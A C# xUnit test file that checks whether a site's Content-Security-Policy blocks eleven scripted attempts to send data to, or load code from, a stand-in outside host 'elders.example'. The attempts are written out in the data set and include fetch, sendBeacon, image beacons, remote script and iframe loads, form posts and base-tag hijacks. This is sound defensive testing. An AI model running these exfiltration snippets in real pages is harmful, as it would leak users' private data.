using Xunit;

namespace SopCloud.Browser.Tests;

/// <summary>
/// The policy of a page (<c>Content-Security-Policy</c>) is the last to stand between what a parent typed and the world: the
/// browser refuses what it does not name. A refusal is in the console, and so fails any other test that meets one.
/// </summary>
public sealed class What_a_page_may_ask_for(Product product)
{
    private const string Elsewhere = "https://elders.example";

    /// <summary>Each would send something away, or let a stranger's script do so.</summary>
    public static TheoryData<string, string> Ways => new()
    {
        { "img-src", $"document.body.append(Object.assign(new Image(), {{ src: '{Elsewhere}/?wat=dyslexie' }}))" },
        { "connect-src", $"fetch('{Elsewhere}/?wat=dyslexie').catch(() => {{}})" },
        { "connect-src", $"navigator.sendBeacon('{Elsewhere}/', 'dyslexie')" },
        { "script-src-elem", $"document.body.append(Object.assign(document.createElement('script'), {{ src: '{Elsewhere}/x.js' }}))" },
        { "script-src-elem", "document.body.append(Object.assign(document.createElement('script'), { textContent: 'window.isRun = true' }))" },
        { "script-src-attr", "document.body.setAttribute('onclick', 'window.isRun = true')" },
        { "style-src-elem", $"document.head.append(Object.assign(document.createElement('link'), {{ rel: 'stylesheet', href: '{Elsewhere}/x.css' }}))" },
        { "font-src", $"new FontFace('x', 'url({Elsewhere}/x.woff2)').load().catch(() => {{}})" },
        { "frame-src", $"document.body.append(Object.assign(document.createElement('iframe'), {{ src: '{Elsewhere}/' }}))" },
        { "form-action", $"(form => {{ document.body.append(form); form.submit(); }})(Object.assign(document.createElement('form'), {{ action: '{Elsewhere}/', method: 'get' }}))" },
        { "base-uri", $"document.head.append(Object.assign(document.createElement('base'), {{ href: '{Elsewhere}/' }}))" },
    };

    [Theory]
    [MemberData(nameof(Ways))]
    public async Task Is_of_the_site_itself(string directive, string attempt)
    {
        await using var visitor = await product.VisitAsync();
        await visitor.Page.GotoAsync(product.SiteAddress.AbsoluteUri);

        var refused = await visitor.Page.EvaluateAsync<string>($$"""
            () => new Promise(resolve => {
              document.addEventListener('securitypolicyviolation', event => resolve(event.effectiveDirective), { once: true });
              {{attempt}};
            })
            """);

        Assert.Equal(directive, refused);
        Assert.NotEmpty(visitor.Complaints);
        Assert.All(visitor.Requests.Where(request => request.Url.StartsWith(Elsewhere, StringComparison.Ordinal)), request => Assert.Equal("csp", request.Failure));
        Assert.False(await visitor.Page.EvaluateAsync<bool>("'isRun' in window"));
    }
}
